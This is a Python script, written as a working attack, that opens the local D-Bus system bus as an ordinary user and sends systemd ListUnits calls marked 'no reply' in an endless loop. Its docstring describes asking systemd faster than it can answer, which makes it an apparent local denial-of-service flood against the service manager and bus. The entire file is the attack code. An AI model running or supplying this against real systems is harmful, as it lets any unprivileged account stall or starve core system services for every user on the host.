"""Run on a host by any account: asks the host's systemd by the system's bus, faster than that answers, and reads no answer."""

import os
import select
import socket
import struct

PATH, NAME = "/org/freedesktop/systemd1", "org.freedesktop.systemd1"
NO_REPLY = 1


def text(word: str) -> bytes:
    """A string as the bus has it."""
    return struct.pack("<I", len(word)) + word.encode() + b"\0"


def call(serial: int, path: str, name: str, interface: str, member: str, flags: int = 0) -> bytes:
    """A call without words."""
    fields = b""
    for code, kind, word in ((1, b"o", path), (2, b"s", interface), (3, b"s", member), (6, b"s", name)):
        fields += b"\0" * (-len(fields) % 8) + bytes((code, 1)) + kind + b"\0"
        fields += b"\0" * (-len(fields) % 4) + text(word)
    head = b"l" + bytes((1, flags, 1)) + struct.pack("<III", 0, serial, len(fields)) + fields
    return head + b"\0" * (-len(head) % 8)


def main() -> None:
    """Ask until nobody holds our stdin open any more."""
    bus = socket.socket(socket.AF_UNIX)
    bus.connect("/run/dbus/system_bus_socket")
    bus.sendall(b"\0AUTH EXTERNAL %s\r\n" % str(os.getuid()).encode().hex().encode())
    bus.recv(4096)
    driver = "org.freedesktop.DBus"
    bus.sendall(b"BEGIN\r\n" + call(1, "/org/freedesktop/DBus", driver, driver, "Hello"))
    bus.recv(4096)
    asked = b"".join(call(number + 2, PATH, NAME, f"{NAME}.Manager", "ListUnits", NO_REPLY) for number in range(200))
    os.write(1, b"asking\n")
    left = asked
    bus.settimeout(0)
    while True:
        ended, room, _ = select.select([0], [bus], [])
        if ended:
            return
        if room:
            left = left[bus.send(left) :] or asked


if __name__ == "__main__":
    main()
